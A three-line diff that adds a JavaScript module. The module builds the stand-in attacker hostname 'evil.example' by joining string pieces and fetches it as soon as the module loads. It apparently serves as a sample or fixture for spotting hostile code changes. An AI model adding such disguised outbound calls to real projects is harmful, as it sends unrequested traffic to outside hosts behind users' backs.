@@ -1,0 +1,3 @@
+const u = new URL("/x", location.href);
+u.host = ["evil", "example"].join(".");
+export const t = fetch(u);
